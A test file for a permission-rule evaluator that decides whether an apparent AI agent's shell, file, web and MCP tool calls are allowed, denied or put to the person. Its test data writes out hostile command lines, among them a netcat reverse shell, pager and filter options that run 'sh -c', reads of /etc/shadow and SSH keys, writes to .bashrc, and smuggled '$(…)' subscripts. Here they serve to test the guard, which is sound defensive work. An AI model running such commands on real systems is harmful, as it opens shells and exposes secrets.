import { FOLLOWED_WRAPPERS, isExactOnlyCommand, ruleDraftSchema } from '@airlock/api';
import { describe, expect, it } from 'vitest';
import { evaluateRules, type RuleContext } from './evaluate-rules';
import { SESSION, WORKSPACE, context, prefix, rule, terminal } from './rule-fixtures';

const here = { kind: 'workspace', path: WORKSPACE } as const;
const thisChat = { kind: 'chat', sessionId: SESSION } as const;

describe('precedence', () => {
  it('a global deny wins over an allow in this chat', async () => {
    const allow = prefix('npm publish', { scope: thisChat });
    const deny = prefix('npm publish', { effect: 'deny', scope: { kind: 'global' } });
    expect(await evaluateRules(terminal('npm publish'), [allow, deny], context)).toStrictEqual({ decision: 'deny', rule: deny });
  });

  it('a deny in this chat wins over a global allow, in either order', async () => {
    const allow = prefix('git push');
    const deny = prefix('git push', { effect: 'deny', scope: thisChat });
    expect((await evaluateRules(terminal('git push'), [allow, deny], context)).decision).toBe('deny');
    expect((await evaluateRules(terminal('git push'), [deny, allow], context)).decision).toBe('deny');
  });

  it('of several matching denies, the narrowest scope is named', async () => {
    const global = prefix('rm', { effect: 'deny' });
    const chat = prefix('rm', { effect: 'deny', scope: thisChat });
    expect(await evaluateRules(terminal('rm x'), [global, chat], context)).toStrictEqual({ decision: 'deny', rule: chat });
  });

  it('a rule of another chat or another workspace does not apply', async () => {
    const otherChat = prefix('npm test', { scope: { kind: 'chat', sessionId: 'chat-2' } });
    const otherWorkspace = prefix('npm test', { scope: { kind: 'workspace', path: '/work/other' } });
    const denyElsewhere = prefix('npm test', { effect: 'deny', scope: { kind: 'workspace', path: '/work/other' } });
    expect(await evaluateRules(terminal('npm test'), [otherChat, otherWorkspace], context)).toStrictEqual({ decision: 'ask' });
    const allow = prefix('npm test');
    expect((await evaluateRules(terminal('npm test'), [allow, denyElsewhere], context)).decision).toBe('allow');
  });

  it('a workspace scope matches the same folder written differently', async () => {
    const allow = prefix('npm test', { scope: { kind: 'workspace', path: `${WORKSPACE}/` } });
    expect((await evaluateRules(terminal('npm test'), [allow], context)).decision).toBe('allow');
  });

  it('no rules: ask', async () => {
    expect(await evaluateRules(terminal('npm test'), [], context)).toStrictEqual({ decision: 'ask' });
  });
});

describe('rules from the workspace file', () => {
  const fileAllow = prefix('make', { scope: here, source: 'workspace-file' });
  const fileDeny = prefix('npm publish', { effect: 'deny', scope: here, source: 'workspace-file' });
  const trusted: RuleContext = { ...context, workspaceTrusted: true };

  it('its allow rules do not count in a workspace the person does not trust', async () => {
    expect(await evaluateRules(terminal('make'), [fileAllow], context)).toStrictEqual({ decision: 'ask' });
  });

  it('its allow rules count in a trusted workspace', async () => {
    expect(await evaluateRules(terminal('make'), [fileAllow], trusted)).toStrictEqual({ decision: 'allow', rule: fileAllow, rules: [fileAllow] });
  });

  it('its deny rules tighten what the person allowed, trusted or not', async () => {
    const personal = prefix('npm');
    expect((await evaluateRules(terminal('npm publish'), [personal, fileDeny], context)).decision).toBe('deny');
    expect((await evaluateRules(terminal('npm publish'), [personal, fileDeny], trusted)).decision).toBe('deny');
    expect((await evaluateRules(terminal('npm install'), [personal, fileDeny], context)).decision).toBe('allow');
  });

  it("the person's deny wins over a trusted file's allow", async () => {
    const deny = prefix('make', { effect: 'deny' });
    expect(await evaluateRules(terminal('make'), [fileAllow, deny], trusted)).toStrictEqual({ decision: 'deny', rule: deny });
  });
});

describe('path rules', () => {
  const writeSrc = rule({ tool: 'write_file', match: { kind: 'path-glob', glob: 'src/**' } });
  const denySecrets = rule({ effect: 'deny', tool: 'write_file', match: { kind: 'path-glob', glob: 'src/secrets/**' } });
  const write = (path: string) => ({ tool: 'write_file', arguments: { path, content: 'x' } });

  it.each([
    ['src/a.ts', 'allow'],
    ['./src/a/b/c.ts', 'allow'],
    [`${WORKSPACE}/src/a.ts`, 'allow'],
    ['src/../src/a.ts', 'allow'],
    ['src/secrets/key', 'deny'],
    ['src/./secrets/../secrets/key', 'deny'],
    ['src/.env', 'ask'],
    ['lib/a.ts', 'ask'],
    ['src/../lib/a.ts', 'ask'],
    ['../project/src/a.ts', 'allow'],
    ['../other/src/a.ts', 'ask'],
    ['/etc/passwd', 'ask'],
  ])('write_file %j → %s', async (path, expected) => {
    expect((await evaluateRules(write(path), [writeSrc, denySecrets], context)).decision).toBe(expected);
  });

  it('a rule for one file tool does not cover another', async () => {
    const decision = await evaluateRules({ tool: 'read_file', arguments: { path: 'src/a.ts' } }, [writeSrc], context);
    expect(decision).toStrictEqual({ decision: 'ask' });
  });

  it('list_directory without a path is the workspace itself', async () => {
    const listAll = rule({ tool: 'list_directory', match: { kind: 'path-glob', glob: '**' } });
    expect((await evaluateRules({ tool: 'list_directory', arguments: {} }, [listAll], context)).decision).toBe('allow');
  });

  it('with real paths, an allowed name that leads elsewhere through a link is asked about', async () => {
    const viaLink: RuleContext = { ...context, realPath: async () => `${WORKSPACE}/lib/a.ts` };
    expect(await evaluateRules(write('src/link'), [writeSrc], viaLink)).toStrictEqual({ decision: 'ask' });
    const unresolvable: RuleContext = { ...context, realPath: async () => undefined };
    expect(await evaluateRules(write('src/a.ts'), [writeSrc], unresolvable)).toStrictEqual({ decision: 'ask' });
  });

  it('with real paths, a deny catches the target of a link', async () => {
    const viaLink: RuleContext = { ...context, realPath: async () => `${WORKSPACE}/src/secrets/key` };
    expect((await evaluateRules(write('src/innocent'), [writeSrc, denySecrets], viaLink)).decision).toBe('deny');
  });
});

describe('host, MCP and exact rules', () => {
  const fetchDocs = rule({ match: { kind: 'host', host: 'docs.example.com' } });
  const denyTracker = rule({ effect: 'deny', match: { kind: 'host', host: '*.tracker.example' } });
  const fetch = (url: string) => ({ tool: 'web_fetch', arguments: { url } });

  it.each([
    ['https://docs.example.com/a?b', 'allow'],
    ['http://DOCS.example.com./a', 'allow'],
    ['https://docs.example.com:8443/', 'allow'],
    ['https://user:pw@docs.example.com/', 'allow'],
    ['https://docs.example.com.evil.test/', 'ask'],
    ['https://evil.test/?docs.example.com', 'ask'],
    ['https://a.docs.example.com/', 'ask'],
    ['ftp://docs.example.com/', 'ask'],
    ['https://x.tracker.example/', 'deny'],
    ['https://a.b.tracker.example/', 'deny'],
    ['https://tracker.example/', 'ask'],
    ['not a url', 'ask'],
  ])('web_fetch %j → %s', async (url, expected) => {
    expect((await evaluateRules(fetch(url), [fetchDocs, denyTracker], context)).decision).toBe(expected);
  });

  it('an MCP tool allow rule made for one version of the tool covers that version only; a deny covers every version', async () => {
    const [v1, v2] = ['1'.repeat(64), '2'.repeat(64)];
    const call = (toolVersion: string) => ({ tool: 'files__read', arguments: {}, mcp: { server: 'files', tool: 'read', toolVersion } });
    const allowV1 = rule({ match: { kind: 'mcp-tool', server: 'files', tool: 'read', toolVersion: v1 } });
    expect((await evaluateRules(call(v1), [allowV1], context)).decision).toBe('allow');
    expect((await evaluateRules(call(v2), [allowV1], context)).decision).toBe('ask');
    const denyV1 = rule({ effect: 'deny', match: { kind: 'mcp-tool', server: 'files', tool: 'read', toolVersion: v1 } });
    expect((await evaluateRules(call(v2), [denyV1], context)).decision).toBe('deny');
    const anyVersion = rule({ match: { kind: 'mcp-tool', server: 'files', tool: 'read' } });
    expect((await evaluateRules(call(v2), [anyVersion], context)).decision).toBe('allow');
  });

  it('an MCP tool rule covers that tool of that server only; a server rule covers all its tools', async () => {
    const oneTool = rule({ match: { kind: 'mcp-tool', server: 'files', tool: 'read' } });
    const call = (server: string, tool: string) => ({ tool: `${server}__${tool}`, arguments: {}, mcp: { server, tool } });
    expect((await evaluateRules(call('files', 'read'), [oneTool], context)).decision).toBe('allow');
    expect((await evaluateRules(call('files', 'write'), [oneTool], context)).decision).toBe('ask');
    expect((await evaluateRules(call('other', 'read'), [oneTool], context)).decision).toBe('ask');
    expect((await evaluateRules({ tool: 'files__read', arguments: {} }, [oneTool], context)).decision).toBe('ask');
    const wholeServer = rule({ match: { kind: 'mcp-server', server: 'files' } });
    const denyWrite = rule({ effect: 'deny', match: { kind: 'mcp-tool', server: 'files', tool: 'write' } });
    expect((await evaluateRules(call('files', 'list'), [wholeServer, denyWrite], context)).decision).toBe('allow');
    expect((await evaluateRules(call('files', 'write'), [wholeServer, denyWrite], context)).decision).toBe('deny');
  });

  it('an exact-arguments rule covers the same arguments in any key order, nothing else', async () => {
    const exact = rule({ tool: 'python', match: { kind: 'exact-arguments', arguments: { code: 'print(1)', b: [1, { y: 1, x: 2 }] } } });
    const same = { tool: 'python', arguments: { b: [1, { x: 2, y: 1 }], code: 'print(1)' } };
    expect((await evaluateRules(same, [exact], context)).decision).toBe('allow');
    expect((await evaluateRules({ tool: 'python', arguments: { code: 'print(2)' } }, [exact], context)).decision).toBe('ask');
    expect((await evaluateRules({ ...same, tool: 'other' }, [exact], context)).decision).toBe('ask');
  });

  it('an exact-arguments allow on a command line still loses to a deny on a part of it', async () => {
    const exact = rule({ tool: 'terminal', match: { kind: 'exact-arguments', arguments: { command: 'make && rm -rf build' } } });
    const deny = prefix('rm -rf', { effect: 'deny' });
    expect((await evaluateRules(terminal('make && rm -rf build'), [exact], context)).decision).toBe('allow');
    expect((await evaluateRules(terminal('make && rm -rf build'), [exact, deny], context)).decision).toBe('deny');
  });

  it('an exact command rule allows the same words and no more', async () => {
    const exact = prefix('python -m pytest', { exact: true });
    expect((await evaluateRules(terminal("python  -m 'pytest'"), [exact], context)).decision).toBe('allow');
    expect((await evaluateRules(terminal('python -m pytest -x'), [exact], context)).decision).toBe('ask');
  });

  it('a command argument that is not text is asked about', async () => {
    expect(await evaluateRules({ tool: 'terminal', arguments: { command: 42 } }, [prefix('npm test')], context)).toStrictEqual({ decision: 'ask' });
  });
});

describe('what a prefix rule does not cover', () => {
  const decided = async (command: string, rules: Parameters<typeof evaluateRules>[1]) => (await evaluateRules(terminal(command), rules, context)).decision;

  it('a shell builtin that evaluates a subscript in a variable name, given one, or sets a variable later words take on', async () => {
    const rules = [prefix('printf'), prefix('test'), prefix('[')];
    expect(await decided("printf -v 'x[$(touch pwned)]' %s y", rules)).toBe('ask');
    expect(await decided("test -v 'a[$(touch pwned)]'", rules)).toBe('ask');
    expect(await decided("[ -v 'a[$(touch pwned)]' ]", rules)).toBe('ask');
    expect(await decided('test -v *', rules)).toBe('ask');
    // A variable set here would carry what it holds into later words, or into a subscript evaluated later.
    expect(await decided("printf -v y %b 'a\\x5b$(id)]'", rules)).toBe('ask');
    expect(await decided("printf -v y %s '--node-options=x'", rules)).toBe('ask');
    expect(() => prefix('read')).toThrow(/must be exact/);
    expect(await decided("printf 'hello %s\\n' world", rules)).toBe('allow');
    expect(await decided('test -f package.json && test -d "$HOME/src"', rules)).toBe('allow');
  });

  it('a builtin and programs whose words run a command or code are exact-only (found in review)', async () => {
    // `jobs -x touch PWNED` ran `touch` under a rule for `jobs`, and `rename 'system("…")' x` Perl under one for `rename`.
    for (const [name, line] of [
      ['jobs', 'jobs -x touch PWNED'],
      ['rename', `rename 'system("touch PWNED")' x`],
      ['prename', `prename 'system("touch PWNED")' x`],
      ['file-rename', `file-rename 'system("touch PWNED")' x`],
      ['perl-rename', `perl-rename 'system("touch PWNED")' x`],
      ['exiftool', `exiftool -if 'system("touch PWNED")' x.jpg`],
      ['erb', 'erb x.erb'],
      ['zrun', 'zrun sh x.gz'],
      ['logsave', 'logsave log touch PWNED'],
    ] as const) {
      expect(isExactOnlyCommand(name), name).toBe(true);
      expect(() => prefix(name), name).toThrow(/must be exact/);
      expect(await decided(line, [{ ...prefix('ls'), match: { kind: 'command-prefix', tokens: [name], exact: false } }]), line).toBe('ask');
    }
    expect(await decided('jobs', [prefix('jobs', { exact: true })])).toBe('allow');
  });

  it('Ghostscript, ImageMagick and GraphicsMagick, whose file names run a command, are exact-only (found in review)', async () => {
    for (const [name, line] of [
      ['gs', "gs -q -dBATCH -dNOPAUSE -sDEVICE=pdfwrite -sOutputFile='%pipe%touch PWNED' x.ps"],
      ['gs', "gs -sDEVICE=png16m -o '|touch PWNED' x.pdf"],
      ['ghostscript', "ghostscript -sOutputFile='%pipe%touch PWNED' x.ps"],
      ['convert', "convert '|touch PWNED' out.png"],
      ['convert', "convert in.png '|touch PWNED'"],
      ['magick', "magick '|touch PWNED' out.png"],
      ['mogrify', 'mogrify -format png msl:x.msl'],
      ['montage', "montage '|touch PWNED' out.png"],
      ['composite', "composite '|touch PWNED' b.png out.png"],
      ['compare', "compare '|touch PWNED' b.png diff.png"],
      ['identify', "identify '|touch PWNED'"],
      ['conjure', 'conjure x.msl'],
      ['stream', "stream '|touch PWNED' out.rgb"],
      ['gm', "gm convert '|touch PWNED' out.png"],
    ] as const) {
      expect(isExactOnlyCommand(name), name).toBe(true);
      expect(() => prefix(name), name).toThrow(/must be exact/);
      expect(await decided(line, [{ ...prefix('ls'), match: { kind: 'command-prefix', tokens: [name], exact: false } }]), line).toBe('ask');
    }
    expect(await decided('convert in.png out.jpg', [prefix('convert in.png out.jpg', { exact: true })])).toBe('allow');
  });

  it('awk and sed under other names, and Miller, whose scripts run a command, are exact-only (found in review)', async () => {
    // `goawk 'BEGIN{system("touch PWNED")}'` ran `touch` under a rule for `goawk`, as `mlr -n put 'end{system(…)}'` under
    // one for `mlr`: awk's and sed's own names were exact-only, these were not.
    for (const [name, line] of [
      ['goawk', `goawk 'BEGIN{system("touch PWNED")}'`],
      ['frawk', `frawk 'BEGIN{system("touch PWNED")}'`],
      ['original-awk', `original-awk 'BEGIN{system("touch PWNED")}'`],
      ['bioawk', `bioawk 'BEGIN{system("touch PWNED")}'`],
      ['ssed', "ssed 'e touch PWNED' x"],
      ['psed', "psed 'r /etc/shadow' x"],
      ['mlr', `mlr -n put 'end{system("touch PWNED")}'`],
      ['goawk', "goawk '{print}' /etc/shadow"],
    ] as const) {
      expect(isExactOnlyCommand(name), name).toBe(true);
      expect(() => prefix(name), name).toThrow(/must be exact/);
      expect(await decided(line, [{ ...prefix('ls'), match: { kind: 'command-prefix', tokens: [name], exact: false } }]), line).toBe('ask');
    }
    expect(await decided('mlr --icsv --opprint cat data.csv', [prefix('mlr --icsv --opprint cat data.csv', { exact: true })])).toBe('allow');
  });

  it('sed and awk printing a file outside the workspace are asked about under the rules that cover their calls inside it', async () => {
    // An allow rule for sed or awk is exact: one for a call in the workspace covers that call and no other.
    const rules = [prefix('sed -n p README.md', { exact: true }), prefix('awk 1 README.md', { exact: true }), prefix('sed -i s/a/b/ src/x.ts', { exact: true }), prefix('awk -f prog.awk data.txt', { exact: true })];
    for (const line of ['sed -n p /etc/shadow', "awk '{print}' ~/.ssh/id_rsa", 'awk 1 /etc/shadow', 'sed -i s/a/b/ ../other/x.ts', 'awk -f prog.awk /etc/shadow', 'awk -f /tmp/x.awk data.txt', "sed -n 'r /etc/shadow' README.md"]) {
      expect(await decided(line, rules), line).toBe('ask');
    }
    expect(await decided('sed -n p README.md', rules)).toBe('allow');
    expect(await decided('awk -f prog.awk data.txt', rules)).toBe('allow');
  });

  it('options through which split, bat, sdiff, diff3, netcat, aria2c, rake, just and latexmk run a command (found in review)', async () => {
    // `split --filter='touch PWNED' x` and `sdiff --diff-program=./x a b` ran the command under a rule for the program.
    for (const [token, line] of [
      ['split', "split --filter='touch PWNED' x"],
      ['bat', "bat --paging=always --pager='sh -c \"touch PWNED\"' README.md"],
      ['bat', "bat --pager 'sh -c \"touch PWNED\"' --paging=always README.md"],
      ['batcat', "batcat --paging=always --pager='sh -c \"touch PWNED\"' README.md"],
      ['split', "split --fil='touch PWNED' x"],
      ['sdiff', 'sdiff --diff-program=./evil a b'],
      ['sdiff', 'sdiff --diff-p ./evil a b'],
      ['diff3', 'diff3 --diff-program=./evil a b c'],
      ['nc', 'nc -e /bin/sh host.example 4444'],
      ['nc', 'nc -lvnpe sh 4444'],
      ['netcat', "netcat -c 'touch PWNED' host.example 4444"],
      ['ncat', "ncat --sh-exec 'touch PWNED' host.example 4444"],
      ['ncat', 'ncat --lua-e=x.lua host.example 4444'],
      ['aria2c', 'aria2c --on-download-complete=./evil.sh https://example.com/x'],
      ['aria2c', 'aria2c --on-download-c ./evil.sh https://example.com/x'],
      ['aria2c', 'aria2c --conf-path=./evil.conf https://example.com/x'],
      ['aria2c', 'aria2c --enable-rpc'],
      ['rake test', `rake test -e 'system("touch PWNED")'`],
      ['rake test', 'rake test -rx'],
      ['rake test', 'rake test RUBYOPT=-r./evil'],
      ['rake test', 'rake test deploy'],
      ['just test', 'just test --shell ./evil'],
      ['just test', "just --command 'touch PWNED'"],
      ['just test', "just test x='$(touch PWNED)'"],
      ['just test', 'just test deploy'],
      ['latexmk', "latexmk -e '$pdflatex=q/touch PWNED/' x.tex"],
      ['latexmk', "latexmk -pdflatex='touch PWNED %S' x.tex"],
      ['latexmk', 'latexmk -r evil.rc x.tex'],
      ['latexmk', 'latexmk x.tex -- -e x'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
    }
    for (const [token, line] of [
      ['split', 'split -l 1000 big.log part-'],
      ['bat', 'bat --paging=never -n README.md'],
      ['sdiff', 'sdiff -s a b'],
      ['diff3', 'diff3 a b c'],
      ['nc', 'nc -zv host.example 80'],
      ['aria2c', 'aria2c -x4 https://example.com/x'],
      ['rake test', 'rake test --trace -q'],
      ['just test', 'just test -q'],
      ['latexmk', 'latexmk -pdf -interaction=nonstopmode x.tex'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('allow');
    }
  });

  it('options through which enscript, ugrep, highlight, pygmentize and ack run a command, and qsv, whose py and luau run code, is exact-only (found in review)', async () => {
    // Judged as cat is, each still ran a program or code an option named under a rule for its name, as bat's --pager did.
    for (const [token, line] of [
      ['enscript', "enscript -I 'sh -c \"touch PWNED\"' -p - README.md"],
      ['enscript', "enscript -I'touch PWNED' -p - README.md"],
      ['enscript', "enscript --filter='touch PWNED' -p - README.md"],
      ['enscript', "enscript --fil='touch PWNED' -p - README.md"],
      ['enscript', 'enscript -e -p - notes.txt'],
      ['enscript', 'enscript --escapes -p - notes.txt'],
      ['ugrep', "ugrep --filter='*:touch PWNED' x README.md"],
      ['ugrep', "ugrep --pager='sh -c id' x README.md"],
      ['ugrep', 'ugrep --pager x README.md'],
      ['ugrep', "ugrep --view='sh -c id' -Q x"],
      ['ugrep', 'ugrep --config=evil.ugrep x README.md'],
      ['ugrep', 'ugrep ---evil.ugrep x README.md'],
      ['highlight', 'highlight --plug-in=evil.lua README.md'],
      ['highlight', 'highlight --plug evil.lua README.md'],
      ['highlight', 'highlight --config-file=evil.lang README.md'],
      ['pygmentize', 'pygmentize -l ./evil.py:X -x README.md'],
      ['pygmentize', 'pygmentize -gx -l ./evil.py README.md'],
      ['ack', "ack --pager='sh -c id' x"],
      ['ack', "ack --pag 'sh -c id' x"],
      ['ack', 'ack --ackrc=evil.ackrc x'],
      ['ack-grep', "ack-grep --pager='sh -c id' x"],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
    }
    for (const [token, line] of [
      ['enscript', 'enscript -p - README.md'],
      ['ugrep', 'ugrep -rn TODO src'],
      ['highlight', 'highlight -O ansi README.md'],
      ['pygmentize', 'pygmentize -g README.md'],
      ['ack', 'ack -i todo src'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('allow');
    }
    // `qsv py map x 'import os; os.system(…)'` and `qsv luau` run the code they are given.
    expect(isExactOnlyCommand('qsv')).toBe(true);
    expect(() => prefix('qsv')).toThrow(/must be exact/);
    expect(await decided("qsv py map x 'os.system(\"touch PWNED\")' data.csv", [{ ...prefix('ls'), match: { kind: 'command-prefix', tokens: ['qsv'], exact: false } }])).toBe('ask');
    expect(await decided('qsv stats data.csv', [prefix('qsv stats data.csv', { exact: true })])).toBe('allow');
  });

  it("highlight's language and theme options, whose definitions are Lua it runs, given a path (found in review)", async () => {
    // `highlight -S ../../../../tmp/x README.md` ran /tmp/x.lang, `-s` the same a `.theme` (checked with highlight
    // 3.41); highlight 4 loads the file a `-S` value with a `.` names, and any file a `-s` value names.
    for (const line of [
      'highlight -S../../../../tmp/x README.md',
      'highlight -S ../../../../tmp/x README.md',
      'highlight -qS../x README.md',
      'highlight -S evil.lang README.md',
      'highlight --syntax=evil.lang README.md',
      'highlight --syntax evil.lang README.md',
      'highlight --synt=sub/x README.md',
      'highlight --src-lang=../x README.md',
      'highlight --syntax-by-name=a./../../tmp/x README.md',
      'highlight --start-nested sub/x README.md',
      'highlight --force=sub/x README.md',
      'highlight --base16=sub/x README.md',
      'highlight -s molokai README.md',
      'highlight -smolokai README.md',
      'highlight --style=sub/x README.md',
      'highlight --sty x README.md',
      'highlight -S "$X" README.md',
      'highlight --ls-exec=sh README.md',
      'highlight --ls-profile clangd main.c',
    ]) {
      expect(await decided(line, [prefix('highlight')]), line).toBe('ask');
    }
    for (const line of [
      'highlight -S c README.md',
      'highlight --syntax=python -O ansi notes.txt',
      'highlight --syntax-by-name=main.py -O ansi',
      'highlight --force -O ansi notes.txt',
      'highlight --style-outfile=out.css -O html README.md',
      'highlight -O ansi README.md',
    ]) {
      expect(await decided(line, [prefix('highlight')]), line).toBe('allow');
    }
    // A rule that names the theme covers it.
    expect(await decided('highlight -s molokai README.md', [prefix('highlight -s molokai')])).toBe('allow');
  });

  it("highlight's short options in a group, read as its parser reads them: past a letter that takes a value, the rest is that value (found in review)", async () => {
    // `-Oansi` is `--out-format=ansi`, `-Fstroustrup` `--reformat=stroustrup`: no `-s` in either. `-B`, `-F` and `-x`
    // take a value too; `-B` is a search highlight runs itself, following links below, which a prefix rule never covers
    // (`links-leading-out.test.ts`).
    for (const line of [
      'highlight -Oansi main.c',
      'highlight -lOansi main.c',
      'highlight -Fstroustrup -O ansi main.c',
      'highlight -OB -o out.txt main.c',
      'highlight -xletter -O rtf -o out.rtf README.md',
    ]) {
      expect(await decided(line, [prefix('highlight')]), line).toBe('allow');
    }
    for (const line of [
      'highlight -qs molokai README.md',
      'highlight -lD/tmp/x README.md',
      'highlight -Oansi -s molokai README.md',
      'highlight -lS../x README.md',
      "highlight -B'/etc/*' -d out",
      "highlight -B '/etc/*' -d out",
      "highlight -B'*.cs' -d out",
      "highlight --batch-recursive='*.cs' -d out",
    ]) {
      expect(await decided(line, [prefix('highlight')]), line).toBe('ask');
    }
  });

  it('options through which info and cscope write a file where they are told (found in review)', async () => {
    // `info -o FILE` writes the nodes it shows there, `--dribble` the keys it reads; `cscope -f` its cross-reference,
    // which `-X` deletes at exit: over one of the person's too, as `sort -o` would.
    for (const [token, line] of [
      ['info', 'info -o /root/.bashrc ls'],
      ['info', 'info --output=/root/.bashrc ls'],
      ['info', 'info --out /root/.bashrc ls'],
      ['info', 'info --dribble=/root/.bashrc ls'],
      ['info', 'info -ao /root/.bashrc ls'],
      ['cscope', 'cscope -b -f /root/.bashrc'],
      ['cscope', 'cscope -bf/root/.bashrc'],
      ['cscope', 'cscope -L -1 main -X -f /root/.bashrc'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
    }
    for (const [token, line] of [
      ['info', 'info ls'],
      ['info', 'info coreutils "ls invocation"'],
      ['cscope', 'cscope -b -R'],
      ['cscope', 'cscope -d -L -1 main'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('allow');
    }
  });

  it('options through which fd runs a command and tree writes a file (found in review)', async () => {
    // fd's `-x`/`--exec` runs a command for each file it finds, `-X`/`--exec-batch` one for them all; tree's `-o` writes
    // its listing where it is told, and `-R` (with `-L`) a 00Tree.html in each folder at that depth, wherever it lists.
    for (const [token, line] of [
      ['fd', 'fd -x id'],
      ['fd', 'fd -e ts -x sh -c id'],
      ['fd', 'fd --exec id'],
      ['fd', 'fd -Hx id'],
      ['fd', 'fd . src --exec-batch rm'],
      ['fdfind', 'fdfind --exec id'],
      ['fdfind', 'fdfind -X id'],
      ['tree', 'tree -o /home/me/.bashrc'],
      ['tree', 'tree -o notes.md src'],
      ['tree', 'tree -ao out.txt'],
      ['tree', 'tree -L3o out.txt'],
      ['tree', 'tree -H . -R -L 1 /home/me'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
    }
    for (const [token, line] of [
      ['fd', 'fd -e ts'],
      ['fd', 'fd -H .env src'],
      ['fdfind', 'fdfind -t f pattern ~/.config'],
      ['tree', 'tree -L 2 -a src'],
      ['tree', 'tree -H . src'],
      // A rule that names the file is the person's word for it.
      ['tree -o out.txt', 'tree -o out.txt src'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('allow');
    }
  });

  it('the option through which nm, ar and ranlib load a plugin library run its code (found in review)', async () => {
    // `nm --plugin ./p.so a.o` ran p.so's constructor, as did ar's and ranlib's, gcc-nm's and gcc-ar's, and ar's after
    // a `--` before its key letters (checked with the real programs).
    for (const [token, line] of [
      ['nm', 'nm --plugin ./p.so a.o'],
      ['nm', 'nm --plugin=./p.so a.o'],
      ['nm', 'nm --plu ./p.so a.o'],
      ['nm', 'nm a.o --plugin ./p.so'],
      ['ar', 'ar --plugin ./p.so rc lib.a a.o'],
      ['ar', 'ar rc --plugin=./p.so lib.a a.o'],
      ['ar', 'ar -- rc --plugin ./p.so lib.a a.o'],
      ['ranlib', 'ranlib --plugin ./p.so lib.a'],
      ['gcc-nm', 'gcc-nm --plugin ./p.so a.o'],
      ['gcc-ar', 'gcc-ar --plugin ./p.so rc lib.a a.o'],
      ['gcc-ranlib', 'gcc-ranlib --plugin ./p.so lib.a'],
      // Under the versioned names a distribution installs (gcc-ar-12 and its cross builds'), which ran it too.
      ['gcc-ar-12', 'gcc-ar-12 --plugin ./p.so rcs x.a a.o'],
      ['gcc-nm-12', 'gcc-nm-12 --plugin ./p.so a.o'],
      ['gcc-ranlib-12', 'gcc-ranlib-12 --plugin ./p.so x.a'],
      ['x86_64-linux-gnu-gcc-ar-12', 'x86_64-linux-gnu-gcc-ar-12 --plugin ./p.so rcs x.a a.o'],
      ['x86_64-linux-gnu-gcc-nm-12', 'x86_64-linux-gnu-gcc-nm-12 --plugin ./p.so a.o'],
      // The linker loads its -plugin too (checked with the real ld).
      ['ld', 'ld -plugin ./p.so a.o'],
      ['ld', 'ld --plugin=./p.so a.o'],
      ['ld.bfd', 'ld.bfd -plugin ./p.so a.o'],
      ['x86_64-linux-gnu-ld', 'x86_64-linux-gnu-ld -plugin ./p.so a.o'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('ask');
    }
    for (const [token, line] of [
      ['nm', 'nm -C build/lib.a'],
      ['ar', 'ar rcs lib.a a.o'],
      ['ar', 'ar t lib.a'],
      ['ranlib', 'ranlib lib.a'],
      ['gcc-nm', 'gcc-nm a.o'],
      ['gcc-nm-12', 'gcc-nm-12 a.o'],
      ['ld', 'ld -o a.out a.o'],
    ] as const) {
      expect(await decided(line, [prefix(token)]), line).toBe('allow');
    }
  });

  it('llvm-windres and llvm-rc under the versioned names a distribution installs, and windres under a cross build’s name, are exact-only (found in review)', async () => {
    // Debian installs `llvm-windres-14` and `llvm-rc-14` alone; both copy the file an .rc's `1 RCDATA "/…/secret.txt"`
    // names into their output (checked with LLVM 14), and llvm-windres runs `--preprocessor`.
    const stored = (token: string) => ({ ...prefix('ls'), match: { kind: 'command-prefix' as const, tokens: [token], exact: false } });
    for (const [token, line] of [
      ['llvm-windres-14', 'llvm-windres-14 --preprocessor=./evil.sh app.rc app.o'],
      ['llvm-windres-14', 'llvm-windres-14 app.rc app.o'],
      ['llvm-rc', 'llvm-rc /fo app.res app.rc'],
      ['llvm-rc-14', 'llvm-rc-14 /fo app.res app.rc'],
      ['llvm-rc-14.0', 'llvm-rc-14.0 /fo app.res app.rc'],
    ] as const) {
      expect(await decided(line, [stored(token)]), line).toBe('ask');
    }
    // A rule that could be stored but would cover nothing: storing and judging agree that it must be exact.
    for (const name of ['llvm-windres-14', 'llvm-rc', 'llvm-rc-14', 'x86_64-w64-mingw32-windres', 'i686-w64-mingw32-windres', 'x86_64-w64-mingw32-windres-12']) {
      expect(() => prefix(name), name).toThrow(/must be exact/);
      expect(isExactOnlyCommand(name), name).toBe(true);
    }
    expect(await decided('llvm-rc-14 /fo app.res app.rc', [prefix('llvm-rc-14 /fo app.res app.rc', { exact: true })])).toBe('allow');
    expect(await decided('x86_64-w64-mingw32-dlltool -d foo.def -l libfoo.a', [prefix('x86_64-w64-mingw32-dlltool')])).toBe('allow');
  });

  it('windres and dlltool under MXE’s names, whose target holds a dot (x86_64-w64-mingw32.static-windres), are judged as windres and dlltool, when a rule is stored as when it is judged (found in review)', async () => {
    const stored = (token: string) => ({ ...prefix('ls'), match: { kind: 'command-prefix' as const, tokens: [token], exact: false } });
    for (const [token, line] of [
      ['x86_64-w64-mingw32.static-windres', 'x86_64-w64-mingw32.static-windres --preprocessor=./evil.sh app.rc app.o'],
      ['i686-w64-mingw32.shared-windres', "i686-w64-mingw32.shared-windres -D'X;sh x.sh' app.rc app.o"],
      ['x86_64-w64-mingw32.static-dlltool', 'x86_64-w64-mingw32.static-dlltool --as=./evil.sh -d foo.def -l libfoo.a'],
      ['x86_64-w64-mingw32.static-dlltool', 'x86_64-w64-mingw32.static-dlltool -S ./evil.sh -d foo.def -l libfoo.a'],
    ] as const) {
      expect(await decided(line, [stored(token)]), line).toBe('ask');
    }
    for (const name of ['x86_64-w64-mingw32.static-windres', 'i686-w64-mingw32.shared-windres', 'x86_64-w64-mingw32.static-windres-12']) {
      expect(() => prefix(name), name).toThrow(/must be exact/);
      expect(isExactOnlyCommand(name), name).toBe(true);
    }
    expect(isExactOnlyCommand('x86_64-w64-mingw32.static-dlltool')).toBe(false);
    expect(await decided('x86_64-w64-mingw32.static-dlltool -d foo.def -l libfoo.a', [prefix('x86_64-w64-mingw32.static-dlltool')])).toBe('allow');
  });

